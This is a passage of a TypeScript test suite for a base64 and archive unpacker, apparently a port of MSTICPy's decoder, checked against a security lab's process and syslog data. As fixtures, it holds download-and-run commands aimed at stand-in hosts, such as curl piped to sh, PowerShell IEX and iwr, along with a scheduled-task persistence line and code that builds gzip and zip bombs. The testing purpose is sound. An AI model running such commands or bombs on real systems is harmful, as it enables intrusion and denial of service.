import assert from "node:assert/strict";
import crypto from "node:crypto";
import { test } from "node:test";
import zlib from "node:zlib";
import { Deflate, gzipSync, strToU8, zipSync } from "fflate";
import pl from "nodejs-polars";
import { columnOf } from "../../src/common/frames";
import { QueryProvider } from "../../src/data/queryProvider";
import { base64, Base64Error, BASE64_RECORD_COLUMNS, decodeBase64Run, MAX_ORIGINAL_CHARS } from "../../src/transform/base64Unpack";
import { detectFileType } from "../../src/transform/fileTypes";
import { BatchBuilder } from "../../src/transform/workers/ipcWriter";
import { assertLinear } from "../helpers/linearTime";
import { inflateWhole } from "../../src/transform/archives";

const qp = new QueryProvider("LocalData");
const b64 = (data: Uint8Array | string) => Buffer.from(typeof data === "string" ? Buffer.from(data) : data).toString("base64");
const MiB = 1 << 20;

// ---------------------------------------------------------------- the lab's answers

test("lab: base64 in the first 1000 command lines — the seed's two rows, joined back to their source rows", async () => {
  const procs = await qp.WindowsSecurity.list_host_processes();
  const decoded = base64.unpackDf(procs.head(1000), { column: "CommandLine" });
  assert.deepEqual(decoded.columns, [...BASE64_RECORD_COLUMNS, "src_index", "CommandLine", "full_decoded_string"]);
  const merged = procs
    .withRowIndex("SourceIndex")
    .join(decoded, { leftOn: "SourceIndex", rightOn: "src_index" })
    .filter(pl.col("decoded_string").isNotNull())
    .select("SourceIndex", "TimeGenerated", "Account", "Computer", "NewProcessName", "CommandLine", "decoded_string");
  // Reference: the seed walkthrough's merged_filtered table (rows 21 and 968).
  assert.deepEqual(merged.toRecords(), [
    {
      SourceIndex: 21,
      TimeGenerated: "2/10/19 3:50 PM",
      Account: "WORKGROUP\\MSTICAlertsWin1$",
      Computer: "MSTICAlertsWin1",
      NewProcessName: "C:\\Windows\\System32\\PING.EXE",
      CommandLine: "cGluZyAgbWljcm9zb2Z0LmNvbSAtbiAxNSA=",
      decoded_string: "ping  microsoft.com -n 15 ",
    },
    {
      SourceIndex: 968,
      TimeGenerated: "2/9/19 11:26 PM",
      Account: "MSTICAlertsWin1\\MSTICAdmin",
      Computer: "MSTICAlertsWin1",
      NewProcessName: "C:\\W!ndows\\System32\\powershell.exe",
      CommandLine:
        ".\\powershell  -enc LU5vbmludGVyYWN0aXZlIC1Ob3Byb2ZpbGUgLUNvbW1hbmQgIkludm9rZS1FeHByZXNzaW9uIEdldC1Qcm9jZXNzOyBJbnZva2UtV2ViUmVxdWVzdCAtVXJpIGh0dHA6Ly93aDQwMWsub3JnL2dldHBzIg==",
      decoded_string: '-Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://wh401k.org/getps"',
    },
  ]);
  const row968 = decoded.filter(pl.col("src_index").eq(968)).toRecords()[0] as Record<string, unknown>;
  assert.equal(
    row968.full_decoded_string,
    `.\\powershell  -enc <decoded type='string' name='[None]' index='1' depth='1'>-Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://wh401k.org/getps"</decoded>`,
  );
  assert.equal(row968.encoding_type, "utf-8");
  assert.equal(row968.reference, "1.1");
  assert.equal(row968.md5, crypto.createHash("md5").update(String(row968.decoded_string)).digest("hex"));
});

test("lab: syslog base64 — 104 items (MSTICPy's count), the secret message and the secret URI at row 9", async () => {
  const syslog = await qp.LinuxSyslog.list_all_syslog_events();
  const decoded = base64.unpackDf(syslog, { column: "SyslogMessage" });
  // MSTICPy decodes 104 items here, mostly long path segments that happen to be valid base64 (binary).
  assert.equal(decoded.height, 104);
  assert.deepEqual(decoded.getColumn("decoded_string").unique(true).toArray(), [null, "Congratulations you found the secret message", "The secret URI is www.github.com/microsoft/msticpy"]);
  const row9 = decoded.slice(9, 1).toRecords()[0] as Record<string, unknown>;
  assert.equal(row9.decoded_string, "The secret URI is www.github.com/microsoft/msticpy");
  assert.equal(row9.src_index, 431);
  assert.equal(syslog.getColumn("SyslogMessage").get(431), row9.SyslogMessage);
  assert.ok(String(row9.full_decoded_string).includes("www.github.com"));
  // Binary items carry hashes and printable bytes, no text.
  const bin = decoded.slice(0, 1).toRecords()[0] as Record<string, unknown>;
  assert.equal(bin.encoding_type, "binary");
  assert.equal(bin.decoded_string, null);
  assert.match(String(bin.printable_bytes), /^[0-9a-f]{2}( [0-9a-f]{2})+$/);
  assert.match(String(bin.full_decoded_string), /<decoded value='binary' name='\[None\]' type='None' index='1' depth='1'>[0-9a-f ]+<\/decoded>/);
});

// ---------------------------------------------------------------- decoding

test("MSTICPy's candidate rule: 30+ base64 characters whose length and padding Python accepts", () => {
  assert.equal(decodeBase64Run("QUFB")?.toString(), "AAA");
  assert.equal(decodeBase64Run("QUFBQQ"), undefined); // 4n+2 without padding
  assert.equal(decodeBase64Run("QUFBQQ==")?.toString(), "AAAA");
  assert.equal(decodeBase64Run("QUFBQUE=")?.toString(), "AAAAA"); // 4n+3 with one '='
  assert.equal(decodeBase64Run("QUFBQUFBQ"), undefined); // 4n+1 never
  assert.equal(decodeBase64Run("QUFB\r\nQUFB")?.toString(), "AAAAAA"); // line breaks dropped
  assert.equal(base64.unpack("short QUFBQUFB").items.length, 0); // under 30 characters
});

test("unpack: a string with its tags, records and items", () => {
  const r = base64.unpack(`ping ${b64("ping  microsoft.com -n 15 ")} and ${b64("second fragment of text!")}`);
  assert.equal(
    r.fullDecodedString,
    "ping <decoded type='string' name='[None]' index='1' depth='1'>ping  microsoft.com -n 15 </decoded> and <decoded type='string' name='[None]' index='2' depth='1'>second fragment of text!</decoded>",
  );
  assert.equal(r.records.height, 2);
  assert.deepEqual(r.records.columns, [...BASE64_RECORD_COLUMNS]);
  assert.deepEqual(r.items.map((i) => [i.reference, i.fileName, i.fileType, i.encodingType]), [
    ["1.1", "unknown", null, "utf-8"],
    ["1.2", "unknown", null, "utf-8"],
  ]);
  const rec = r.records.toRecords()[0] as Record<string, unknown>;
  assert.deepEqual(JSON.parse(String(rec.file_hashes)), { md5: rec.md5, sha1: rec.sha1, sha256: rec.sha256 });
  assert.deepEqual(rec.input_bytes, [...Buffer.from("ping  microsoft.com -n 15 ")]);
  assert.deepEqual(r.limits, []);
  assert.equal(base64.unpack(null).fullDecodedString, "");
});

test("PowerShell -enc (UTF-16LE) decodes as utf-16 text, not UTF-8 with NULs", () => {
  const cmd = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a')";
  const r = base64.unpack(`powershell -enc ${Buffer.from(cmd, "utf16le").toString("base64")}`);
  assert.equal(r.items[0].encodingType, "utf-16");
  assert.equal(r.items[0].decodedString, cmd);
  assert.ok(r.fullDecodedString.includes(cmd));
});

test("nested base64 is decoded level by level, tags nested, depth counted", () => {
  const inner = b64("the innermost secret: http://evil.example.com/x");
  const r = base64.unpack(b64(`outer text ${b64(`middle ${inner}`)}`));
  assert.deepEqual(r.items.map((i) => [i.reference, i.depth]), [["1.1", 1], ["2.1", 2], ["3.1", 3]]);
  assert.equal(r.items[2].decodedString, "the innermost secret: http://evil.example.com/x");
  assert.match(r.fullDecodedString, /^<decoded type='string' name='\[None\]' index='1' depth='1'>outer text <decoded type='string' name='\[None\]' index='1' depth='2'>middle <decoded type='string' name='\[None\]' index='1' depth='3'>the innermost secret/);
});

/** A minimal PE image: MZ, e_lfanew → PE header with characteristics and subsystem. */
function peImage(characteristics: number, subsystem: number): Uint8Array {
  const b = new Uint8Array(0x200);
  b.set([0x4d, 0x5a]);
  b[0x3c] = 0x80;
  b.set([0x50, 0x45, 0, 0], 0x80);
  b[0x80 + 22] = characteristics & 0xff;
  b[0x80 + 23] = characteristics >> 8;
  b[0x80 + 24 + 68] = subsystem;
  return b;
}

test("binary file types by header: exe, dll, sys, elf, pdf, 7z", () => {
  assert.equal(detectFileType(peImage(0x0102, 2)), "exe");
  assert.equal(detectFileType(peImage(0x2102, 2)), "dll");
  assert.equal(detectFileType(peImage(0x0102, 1)), "sys");
  assert.equal(detectFileType(Buffer.from("\x7fELF\x02\x01\x01")), "elf");
  assert.equal(detectFileType(Buffer.from("%PDF-1.7\n")), "pdf");
  assert.equal(detectFileType(Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4])), "7z");
  assert.equal(detectFileType(Buffer.from("plain text")), null);
  const r = base64.unpack(`drop ${b64(peImage(0x0102, 2))}`);
  assert.equal(r.items[0].fileType, "exe");
  assert.equal(r.items[0].encodingType, "binary");
  assert.match(r.fullDecodedString, /^drop <decoded value='binary' name='\[exe\]' type='exe' index='1' depth='1'>4d 5a 00/);
});

/** A ustar archive; `types` gives an entry's type flag (default "0", a file). */
function tar(files: Record<string, string | Uint8Array>, types: Record<string, string> = {}): Uint8Array {
  const blocks: Uint8Array[] = [];
  for (const [name, content] of Object.entries(files)) {
    const data = typeof content === "string" ? strToU8(content) : content;
    const h = new Uint8Array(512);
    const put = (s: string, at: number) => h.set(strToU8(s), at);
    put(name, 0);
    put("0000644\0", 100);
    put("0000000\0", 108);
    put("0000000\0", 116);
    put(data.length.toString(8).padStart(11, "0") + "\0", 124);
    put("00000000000\0", 136);
    put("        ", 148);
    h[156] = (types[name] ?? "0").charCodeAt(0);
    put("ustar\x0000", 257);
    const sum = h.reduce((a, b) => a + b, 0);
    put(sum.toString(8).padStart(6, "0") + "\0 ", 148);
    blocks.push(h, data, new Uint8Array((512 - (data.length % 512)) % 512));
  }
  blocks.push(new Uint8Array(1024));
  return Buffer.concat(blocks);
}

test("archives: zip members (several, or one), gzip, tar, tar.gz — each member decoded, tagged and hashed", () => {
  const two = zipSync({ "a.txt": strToU8("payload one: http://evil.example.com/1"), "b.bin": new Uint8Array([0xde, 0xad, 0xbe, 0xef, 0xff]) });
  const r = base64.unpack(`x ${b64(two)}`);
  assert.deepEqual(r.items.map((i) => [i.reference, i.fileName, i.fileType, i.encodingType, i.index, i.depth]), [
    ["2.1.1", "a.txt", "zip", "utf-8", "1.1", 2],
    ["2.1.2", "b.bin", "zip", "binary", "1.2", 2],
  ]);
  assert.equal(
    r.fullDecodedString,
    "x <decoded value='multiple binary' type='multiple' index='1' depth='1'><decoded type='string' name='[zip] Filename: a.txt' index='1.1' depth='2'>payload one: http://evil.example.com/1</decoded><decoded value='binary' name='[zip] Filename: b.bin' type='zip' index='1.2' depth='2'>de ad be ef ff</decoded></decoded>",
  );
  // One member takes the archive's place (MSTICPy).
  const one = base64.unpack(b64(zipSync({ "only.txt": strToU8("just me") })));
  assert.equal(one.fullDecodedString, "<decoded type='string' name='[zip] Filename: only.txt' index='1' depth='1'>just me</decoded>");
  // gzip: the header's file name when present, else MSTICPy's gzip_file.
  const gz = base64.unpack(b64(gzipSync(strToU8("gzipped text content"), { filename: "note.txt" })));
  assert.deepEqual(gz.items.map((i) => [i.fileName, i.fileType, i.decodedString]), [["note.txt", "gz", "gzipped text content"]]);
  assert.equal(base64.unpack(b64(gzipSync(strToU8("no name here")))).items[0].fileName, "gzip_file");
  // tar, and a tar inside gzip (one level deeper).
  const t = tar({ "dir/run.sh": "#!/bin/sh\ncurl http://evil.example.com/t | sh\n", "b.txt": "second" });
  assert.equal(detectFileType(t), "tar");
  const tr = base64.unpack(b64(t));
  assert.deepEqual(tr.items.map((i) => [i.fileName, i.fileType, i.decodedString]), [
    ["dir/run.sh", "tar", "#!/bin/sh\ncurl http://evil.example.com/t | sh\n"],
    ["b.txt", "tar", "second"],
  ]);
  const tgz = base64.unpack(b64(gzipSync(t)));
  assert.deepEqual(tgz.items.map((i) => [i.reference, i.fileName, i.fileType]), [
    ["3.1.1.1", "dir/run.sh", "tar"],
    ["3.1.1.2", "b.txt", "tar"],
  ]);
  assert.match(tgz.fullDecodedString, /^<decoded value='multiple binary' type='multiple' index='1' depth='1'><decoded value='multiple binary' type='multiple' index='1\.1' depth='2'><decoded type='string' name='\[tar\] Filename: dir\/run\.sh'/);
  // base64 inside an archive member is decoded on the next level.
  const nested = base64.unpack(b64(zipSync({ "x.txt": strToU8(`run ${b64("the hidden command line, base64 in a zip")}`) })));
  assert.deepEqual(nested.items.map((i) => i.decodedString?.slice(0, 20)), ["run dGhlIGhpZGRlbiBj", "the hidden command l"]);
});

test("member names are no text to decode (a sample named by its SHA-256, a name that is base64) and cannot break their tag", () => {
  const sha = crypto.createHash("sha256").update("x").digest("hex");
  const hidden = b64("invoke-expression http://evil.example.com/x");
  const zip = zipSync({ [`${sha}.bin`]: strToU8("payload text: connect 10.9.8.7"), [`${hidden}.txt`]: strToU8("second"), "it's <b>&.txt": strToU8("third") });
  const r = base64.unpack(`cmd /c echo ${b64(zip)} end`);
  assert.deepEqual(r.items.map((i) => [i.reference, i.fileName, i.decodedString]), [
    ["2.1.1", `${sha}.bin`, "payload text: connect 10.9.8.7"],
    ["2.1.2", `${hidden}.txt`, "second"],
    ["2.1.3", "it's <b>&.txt", "third"],
  ]);
  assert.ok(r.fullDecodedString.includes(`name='[zip] Filename: ${sha}.bin' index='1.1'`), r.fullDecodedString);
  assert.ok(r.fullDecodedString.includes("name='[zip] Filename: it&apos;s &lt;b&gt;&amp;.txt'"), r.fullDecodedString);
  assert.doesNotMatch(r.fullDecodedString, /[\uFDD0\uFDD1]/, "no marks left in the text");
  // The marks in data hide nothing: base64 between them is decoded all the same — in the input, in decoded
  // text (the next level's scan), and a name holding one cannot end its attribute early.
  const marked = base64.unpack(`a \uFDD0${hidden}\uFDD1 b`);
  assert.deepEqual(marked.items.map((i) => i.decodedString), ["invoke-expression http://evil.example.com/x"]);
  const nested = base64.unpack(b64(`\uFDD0run this: ${hidden}`));
  assert.deepEqual(nested.items.map((i) => i.reference), ["1.1", "2.1"]);
  assert.equal(nested.items[1].decodedString, "invoke-expression http://evil.example.com/x");
  const named = base64.unpack(b64(zipSync({ [`\uFDD1${hidden}.txt`]: strToU8("member text") })));
  assert.deepEqual(named.items.map((i) => i.decodedString), ["member text"]);
});

test("a fragment repeated across zip and tar members is recorded once per level, with its occurrences", () => {
  // Two second-level fragments: S in three members (two zip, one tar), T in one zip and one tar member.
  const S = b64("powershell -w hidden -c iwr http://198.51.100.23/s2.ps1 | iex");
  const T = b64("schtasks /create /tn upd /tr c:\\users\\public\\u.exe /sc minute");
  const zip = zipSync({ "notes.txt": strToU8(`step one ${S} end`), "todo.txt": strToU8(`step two ${S} ${T}`), "readme.txt": strToU8("no payload in this member") });
  const tape = tar({ "run.sh": `#!/bin/sh\necho ${S} | base64 -d | sh\n`, "cron.txt": `*/5 * * * * ${T}` });
  const message = `attachment1=${b64(zip)} attachment2=${b64(tape)}`;
  const r = base64.unpack(message);
  const decoded = (text: string) => Buffer.from(text, "base64").toString();
  // Level 1: the two archives' five members; level 2: S and T once each.
  assert.deepEqual(
    r.items.map((i) => [i.reference, i.fileName, i.occurrences, i.depth]),
    [
      ["2.1.1", "notes.txt", 1, 2],
      ["2.1.2", "todo.txt", 1, 2],
      ["2.1.3", "readme.txt", 1, 2],
      ["2.2.1", "run.sh", 1, 2],
      ["2.2.2", "cron.txt", 1, 2],
      ["2.1", "unknown", 3, 2],
      ["2.2", "unknown", 2, 2],
    ],
  );
  assert.equal(r.items[5].decodedString, decoded(S));
  assert.equal(r.items[6].decodedString, decoded(T));
  // Nothing lost: every occurrence is decoded in the rewritten text, with the same tag.
  const tagS = `<decoded type='string' name='[None]' index='1' depth='2'>${decoded(S)}</decoded>`;
  const tagT = `<decoded type='string' name='[None]' index='2' depth='2'>${decoded(T)}</decoded>`;
  assert.equal(r.fullDecodedString.split(tagS).length - 1, 3);
  assert.equal(r.fullDecodedString.split(tagT).length - 1, 2);
  assert.ok(!r.fullDecodedString.includes(S) && !r.fullDecodedString.includes(T));
  // The records frame and unpackDf carry the count as a column.
  assert.deepEqual(r.records.getColumn("occurrences").toArray(), [1, 1, 1, 1, 1, 3, 2]);
  const df = base64.unpackDf(pl.DataFrame({ msg: ["nothing", message] }), { column: "msg" });
  assert.equal(df.height, 7);
  assert.equal(df.getColumn("occurrences").dtype.variant, "UInt32");
  assert.deepEqual(df.filter(pl.col("occurrences").gt(1)).select("reference", "occurrences", "src_index").toRecords(), [
    { reference: "2.1", occurrences: 3, src_index: 1 },
    { reference: "2.2", occurrences: 2, src_index: 1 },
  ]);
  // The same fragment at another level is recorded again, at that level.
  const both = base64.unpack(`${S} then ${b64(zip)}`);
  assert.deepEqual(both.items.filter((i) => i.originalString === S).map((i) => [i.depth, i.occurrences]), [[1, 1], [2, 2]]);
});

test("a fragment repeated in one string: one item, every occurrence decoded, each charged to maxDecodedBytes", () => {
  const run = b64("a command line payload of exactly sixty-four bytes, used 5 times");
  const line = `a ${run} b ${run} c ${run}`;
  const r = base64.unpack(line);
  assert.equal(r.items.length, 1);
  assert.equal(r.items[0].occurrences, 3);
  assert.equal(r.fullDecodedString.split("<decoded type='string' name='[None]' index='1' depth='1'>").length - 1, 3);
  // A budget for two copies: the third occurrence is left encoded, in a limit tag, and the limit is named.
  const tight = base64.unpack(line, { maxDecodedBytes: 150 });
  assert.equal(tight.items.length, 1);
  assert.equal(tight.items[0].occurrences, 2);
  assert.ok(tight.fullDecodedString.endsWith(` c <decoded type='limit' reason='maxDecodedBytes' index='1' depth='1'>${run}</decoded>`));
  assert.ok(tight.limits.some((l) => l.startsWith("maxDecodedBytes")));
});

test("corrupt and truncated archives give what could be read and a note — never an exception", () => {
  const zip = zipSync({ "a.txt": strToU8("first member, complete"), "b.txt": strToU8("second member ".repeat(50)) }, { level: 9 });
  const cut = zip.slice(0, zip.length - 60); // central directory gone
  const r = base64.unpack(b64(cut));
  assert.ok(r.items.length >= 1);
  assert.equal(r.items[0].decodedString, "first member, complete");
  assert.ok(r.limits.some((l) => /no central directory/.test(l)));
  const gz = gzipSync(strToU8("a gzip stream that will be cut short ".repeat(20)));
  const g = base64.unpack(b64(gz.slice(0, 40)));
  assert.equal(g.items.length, 1);
  assert.match(String(g.items[0].limit), /corrupt or truncated/);
});

// ---------------------------------------------------------------- limits

/** A raw deflate stream of `mib` MiB of zeros, built in milliseconds: sync-flushed blocks repeated. */
function zeroDeflate(mib: number): Uint8Array {
  let out: Uint8Array[] = [];
  const d = new Deflate({ level: 9 }, (chunk) => out.push(chunk));
  const take = () => {
    const r = Buffer.concat(out);
    out = [];
    return r;
  };
  const zero = new Uint8Array(MiB);
  d.push(zero);
  d.flush(true);
  const first = take();
  d.push(zero);
  d.flush(true);
  const steady = take(); // one more MiB, given a window of zeros: repeatable
  d.push(new Uint8Array(0), true);
  const last = take();
  return Buffer.concat([first, ...new Array<Uint8Array>(mib - 1).fill(steady), last]);
}

function crcOfZeros(mib: number): number {
  const zero = new Uint8Array(MiB);
  let crc = 0;
  for (let i = 0; i < mib; i++) crc = zlib.crc32(zero, crc);
  return crc;
}

function gzipBomb(mib: number): Uint8Array {
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crcOfZeros(mib), 0);
  trailer.writeUInt32LE((mib * MiB) % 2 ** 32, 4);
  return Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), zeroDeflate(mib), trailer]);
}

function zipBomb(mib: number): Uint8Array {
  const data = zeroDeflate(mib);
  const name = Buffer.from("zeros.bin");
  const crc = crcOfZeros(mib);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(mib * MiB, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(mib * MiB, 24);
  central.writeUInt16LE(name.length, 28);
  const cdOffset = local.length + name.length + data.length;
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(1, 8);
  eocd.writeUInt16LE(1, 10);
  eocd.writeUInt32LE(central.length + name.length, 12);
  eocd.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, name, data, central, name, eocd]);
}

test("a 1 GiB gzip bomb and a 1 GiB zip bomb inside base64 stop at the limits, marked, memory untouched", () => {
  const gz = gzipBomb(1024);
  const zip = zipBomb(1024);
  assert.ok(gz.length < 1.1 * MiB && zip.length < 1.1 * MiB, "about 1 MB each: a ~1000:1 bomb");
  const line = `powershell -c "$a='${b64(gz)}'; $b='${b64(zip)}'"`;
  const before = process.memoryUsage();
  const t0 = performance.now();
  const r = base64.unpack(line);
  const ms = performance.now() - t0;
  const after = process.memoryUsage();
  const grew = after.rss + after.arrayBuffers - (before.rss + before.arrayBuffers);
  assert.ok(grew < 256 * MiB, `memory grew by ${(grew / MiB).toFixed(0)} MiB`);
  assert.ok(ms < 20_000, `took ${ms.toFixed(0)} ms`);
  assert.equal(r.items.length, 2);
  const [g, z] = r.items;
  // The gzip bomb: stopped by the per-archive limit (maxExpandedBytes, 8 MiB).
  assert.equal(g.fileType, "gz");
  assert.equal(g.inputBytes.length, 8 * MiB);
  assert.match(String(g.limit), /^maxExpandedBytes: output stopped at 8388608 bytes/);
  // The zip bomb: stopped by what is left of the per-input budget (maxDecodedBytes, 16 MiB, shared with the gzip).
  assert.equal(z.fileType, "zip");
  assert.equal(z.fileName, "zeros.bin");
  assert.match(String(z.limit), /^maxDecodedBytes: output stopped at \d+ bytes/);
  const decodedTotal = Buffer.from(b64(gz), "base64").length + Buffer.from(b64(zip), "base64").length + g.inputBytes.length + z.inputBytes.length;
  assert.equal(decodedTotal, 16 * MiB);
  assert.match(r.fullDecodedString, /limit='maxExpandedBytes: output stopped at 8388608 bytes'/);
  assert.match(r.fullDecodedString, /limit='maxDecodedBytes: output stopped at \d+ bytes'/);
  // The hex shown is capped too; hashes cover every byte.
  assert.match(g.printableBytes, /^00 00 .* … \(\+8323072 bytes\)$/);
  assert.equal(g.sha256, crypto.createHash("sha256").update(new Uint8Array(8 * MiB)).digest("hex"));

  // Alone, the zip bomb stops at maxExpandedBytes too.
  const zr = base64.unpack(b64(zip));
  assert.equal(zr.items[0].inputBytes.length, 8 * MiB);
  assert.match(String(zr.items[0].limit), /^maxExpandedBytes/);
  // A tight per-input budget leaves the second fragment encoded, in a limit tag.
  const tight = base64.unpack(line, { maxDecodedBytes: 10 * MiB });
  assert.equal(tight.items.length, 1);
  assert.ok(tight.limits.some((l) => l.startsWith("maxDecodedBytes")));
  assert.ok(tight.fullDecodedString.includes(`<decoded type='limit' reason='maxDecodedBytes' index='2' depth='1'>${b64(zip)}</decoded>`));
});

test("member count limit: a zip of 150 files reads 100 and says so", () => {
  const files: Record<string, Uint8Array> = {};
  for (let i = 0; i < 150; i++) files[`f${i}.txt`] = strToU8(`file ${i}`);
  const r = base64.unpack(b64(zipSync(files)));
  assert.equal(r.items.length, 100);
  assert.ok(r.limits.some((l) => /maxArchiveMembers: 50 of 150 members not read/.test(l)));
  assert.match(r.fullDecodedString, /^<decoded value='multiple binary' type='multiple' index='1' depth='1' limit='maxArchiveMembers: 50 of 150 members not read'>/);
  assert.equal(base64.unpack(b64(zipSync(files)), { maxArchiveMembers: 200 }).items.length, 150);
});

test("an archive's members repeat its run as original_string up to MAX_ORIGINAL_CHARS, then leave it out and say so", () => {
  // A 6 MiB member and 60 small ones: an 8.4 MB run; 61 copies were 500 MB of text to write (13 s, 1 GB).
  const files: Record<string, string | Uint8Array> = { "big.bin": new Uint8Array(6 * 1024 * 1024).fill(0x41) };
  for (let i = 0; i < 60; i++) files[`m${i}.txt`] = `member ${i}`;
  const run = b64(tar(files));
  const r = base64.unpack(`cmd /c ${run}`);
  assert.equal(r.items.length, 61);
  const kept = r.items.filter((i) => i.originalString !== null);
  assert.ok(kept.every((i) => i.originalString === run));
  assert.equal(kept.length, Math.floor(MAX_ORIGINAL_CHARS / run.length));
  const left = r.items.filter((i) => i.originalString === null);
  assert.ok(left.length > 50 && left.every((i) => /original_string left out/.test(i.limit ?? "")));
  assert.ok(r.limits.some((l) => /original_string left out: the records already hold \d+ characters of runs/.test(l)));
  // Only the records: every member is still decoded and tagged, with no limit in the text.
  assert.equal(r.items.filter((i) => i.decodedString?.startsWith("member ")).length, 60);
  assert.ok(!r.fullDecodedString.includes("original_string"));
  assert.equal(columnOf(r.records, "original_string").nullCount(), left.length);
});

test("tar in pax format (Python's and bsdtar's): the extended header's path names the member, long or not ASCII", () => {
  const record = (key: string, value: string) => {
    const body = ` ${key}=${value}\n`;
    const size = Buffer.byteLength(body);
    let len = size + 1; // the length counts its own digits
    while (String(len).length + size !== len) len = String(len).length + size;
    return `${len}${body}`;
  };
  const long = `${"a".repeat(60)}/${"b".repeat(60)}/payload.sh`;
  const t = tar(
    {
      "PaxHeader/1": record("mtime", "1700000000.5") + record("path", long),
      [long.slice(0, 100)]: "echo long",
      "PaxHeader/2": record("path", "Счёт_оплата.lnk"),
      "????_??????.lnk": "echo cyrillic",
      "plain.txt": "echo plain",
    },
    { "PaxHeader/1": "x", "PaxHeader/2": "x" },
  );
  const r = base64.unpack(b64(t));
  assert.deepEqual(r.items.map((i) => [i.fileName, i.decodedString]), [
    [long, "echo long"],
    ["Счёт_оплата.lnk", "echo cyrillic"],
    ["plain.txt", "echo plain"],
  ]);
});

test("zip64 (Info-ZIP's `zip -fz`): the directory is found through the zip64 end record and its member read", () => {
  // Made by Info-ZIP 3.0: `zip -fz fz.zip "fz file.txt"`. The end record's directory offset is 0xFFFFFFFF, and the
  // directory entry's size is in its zip64 extra field; MSTICPy (Python's zipfile) reads it.
  const fz =
    "UEsDBC0AAAAAAKmshF0Gy5YW//////////8LADAAZnogZmlsZS50eHRVVAkAA40yE2uNMhNrdXgLAAEEAAAAAAQAAAAAAQAQABgAAAAAAAAAGAAAAAAAAAB4IGh0dHA6Ly9mei5leGFtcGxlLmNvbQpQSwECHgMtAAAAAACprIRdBsuWFhgAAAD/////CwAkAAAAAAABAAAApIEAAAAAZnogZmlsZS50eHRVVAUAA40yE2t1eAsAAQQAAAAABAAAAAABAAgAGAAAAAAAAABQSwYGLAAAAAAAAAAeAy0AAAAAAAAAAAABAAAAAAAAAAEAAAAAAAAAXQAAAAAAAABxAAAAAAAAAFBLBgcAAAAAzgAAAAAAAAABAAAAUEsFBgAAAAABAAEAXQAAAP////8AAA==";
  const r = base64.unpack(`unzip ${fz}`);
  assert.deepEqual(r.items.map((i) => [i.fileName, i.fileType, i.decodedString, i.limit]), [["fz file.txt", "zip", "x http://fz.example.com\n", null]]);
  assert.deepEqual(r.limits, []);
});

test("member count limit: nested archives share it, so a zip of zips of zips cannot multiply the records", () => {
  // 20 × 20 × 20 empty members in a 13 KB zip: 8,000 records, each holding the whole 17 KB base64 run, before the
  // limit was per input; 100 × 100 × 100 in a 240 KB zip crashed the process building a 4 GB frame.
  const level = (name: string, member: Uint8Array) => {
    const files: Record<string, Uint8Array> = {};
    for (let i = 0; i < 20; i++) files[`${name}${i}`] = member;
    return zipSync(files);
  };
  const run = b64(level("c", level("d", level("e", new Uint8Array(0)))));
  const r = base64.unpack(run);
  assert.ok(r.items.length <= 100, `${r.items.length} records`);
  assert.ok(r.limits.some((l) => /maxArchiveMembers: 20 of 20 members not read/.test(l)));
  // Archives are read depth first until the limit is spent: the members of the first zip in the first zip come first.
  assert.deepEqual(r.items.slice(0, 3).map((i) => i.fileName), ["e0", "e1", "e2"]);
});

test("depth limit: base64 nested 25 deep stops at 20 and is marked", () => {
  let s = "the bottom of the well, far down: http://evil.example.com/deep";
  for (let i = 0; i < 25; i++) s = b64(s);
  const r = base64.unpack(s);
  assert.equal(Math.max(...r.items.map((i) => i.depth)), 20);
  assert.ok(r.items.filter((i) => i.depth === 20).every((i) => /^maxDepth/.test(String(i.limit))));
  assert.match(r.fullDecodedString, /<decoded type='limit' reason='maxDepth' depth='21'\/>$/);
  assert.ok(r.limits.some((l) => l.startsWith("maxDepth")));
  const full = base64.unpack(s, { maxDepth: 30 });
  assert.equal(full.items.at(-1)?.decodedString, "the bottom of the well, far down: http://evil.example.com/deep");
});

test("fragment limit: the rest is left encoded, in a limit tag", () => {
  const parts = Array.from({ length: 12 }, (_v, i) => b64(`fragment number ${String(i).padStart(2, "0")} of many`));
  const r = base64.unpack(parts.join(" "), { maxFragments: 10 });
  assert.equal(r.items.length, 10);
  assert.ok(r.fullDecodedString.includes(`<decoded type='limit' reason='maxFragments' index='11' depth='1'>${parts[10]}</decoded> ${parts[11]}`));
});

test("unpackDf: the source column keeps its values and type — text, categorical, named like a result column — with and without indexColumn", () => {
  const cmd = ["plain", `echo ${b64("a hidden command line text")}`, null, `x ${b64("another hidden command line")} y`];
  const df = pl.DataFrame({ id: [7, 8, 9, 10], cmd, src_index: cmd }).withColumns(pl.col("cmd").cast(pl.Categorical).alias("cat"));
  const expect = [{ src_index: 1, value: cmd[1] }, { src_index: 3, value: cmd[3] }];
  for (const [column, name, variant] of [["cmd", "cmd", "String"], ["cat", "cat", "Categorical"], ["src_index", "src_index_source", "String"]]) {
    const out = base64.unpackDf(df, { column });
    assert.deepEqual(out.columns, [...BASE64_RECORD_COLUMNS, "src_index", name, "full_decoded_string"], column);
    assert.equal(out.getColumn(name).dtype.variant, variant, column);
    assert.deepEqual(out.select("src_index", name).rows(), expect.map((e) => [e.src_index, e.value]), column);
    const indexed = base64.unpackDf(df, { column, indexColumn: "id" });
    assert.deepEqual(indexed.columns, out.columns, column);
    assert.deepEqual(indexed.select("src_index", name).rows(), expect.map((e) => [e.src_index + 7, e.value]), column);
  }
});

test("unpackDf: a list column is read as its elements' text joined by spaces; the output keeps the list", () => {
  const df = pl.DataFrame({ args: [["powershell", "-enc", b64("a hidden command line text")], ["ls"], null] });
